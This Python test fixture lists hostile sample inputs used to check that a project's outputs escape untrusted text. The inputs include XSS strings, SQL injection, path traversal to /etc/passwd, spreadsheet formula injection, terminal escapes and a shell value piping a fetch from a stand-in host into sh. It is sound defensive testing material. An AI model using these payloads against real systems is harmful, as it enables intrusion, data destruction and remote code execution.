"""The texts that every place is tried with: what a source, a policy, a configuration or a person may write.

A new kind of harm gets its line here, and every place of `tests/inert` is tried with it.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Mapping

TEXTS: Mapping[str, str] = {
    "script": "<script>document.title='owned'</script>",
    "image": "\"><img src=x onerror=document.title='owned'>",
    "attribute": "' onmouseover='document.title=1",
    "closing tags": "</title></style></textarea></pre><svg/onload=document.title='owned'>",
    "scheme": "javascript:document.title='owned'",
    "template": "{{ 7 * 7 }}{% raw %}<b>${7*7}#{7*7}",
    "comment": "<!--",
    "references": "&lt;script&gt;&#x3c;b&#62;",
    "link with a tag": "https://evil.example/\"><script>document.title='owned'</script>",
    "override": "\u202egpj.exe\u2066\u2067x",
    "terminal": "\x1b[2J\x1b]0;owned\x07\x1b]8;;http://evil.example\x1b\\x\x9b31m",
    "nul": "a\x00b",
    "line break": "x\nfake_metric{job=\"x\"} 1\n\ndata: y\nid: 9\n# EOF",
    "other breaks": "a\r\nBcc: all@example.com\r\rX-Y: z\u2028b\u2029c\x0bd\x0ce\x85f",
    "line protocol": 'x\ntierwatch_transition,kind=met subject="INJECTED" 1',
    "quotes": "\"twice\" 'once' `back`",
    "one quote": '"',
    "one backslash": "\\",
    "backslash and quote": '\\"',
    "backslash at the end": "back\\slash\\",
    "commas": "comma, equals=sign, space",
    "number sign": "#",
    "empty": "",
    "blank": " ",
    "tab": "tab\tand\rreturn",
    "formula": "=cmd|'/C calc'!A0",
    "formula by a sign": "-2+3+cmd|' /C calc'!A0",
    "formula by at": "@SUM(1+1)",
    "wide formula": "\uff1d1+1",
    "mention": '@all <at user_id="all">x</at> <!channel> <@U1> [pay](http://evil.example)',
    "path": "../../etc/passwd%2f..%00",
    "query": "'; DROP TABLE readings; --",
    "shell": "x; $(curl evil.example) | sh #",
    "no number": "NaN",
    "no end": "-Infinity",
    "half of a pair": "\ud800x\udfff",
    "joiners": "\u200b\u200d\ufeffx\u0301\u0301\u0301",
    "Chinese": "\u65b0\u8857\u53e3 \u673a\u623f",
    "long": "<b>\u202e" + "x" * 20_000,
}  # fmt: skip

STORABLE: Mapping[str, str] = {name: text.encode("utf-8", "replace").decode() for name, text in TEXTS.items()}
"""The same as a database holds them: a half of a pair of surrogates never comes so far."""

OVERRIDES = frozenset("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def acting(text: str, but: str = "\n") -> set[str]:
    """The characters of a text that would do something: steer a terminal, turn the direction, break a line."""
    return {
        one
        for one in text
        if one not in but and (one in OVERRIDES or unicodedata.category(one) in ("Cc", "Cs", "Zl", "Zp"))
    }
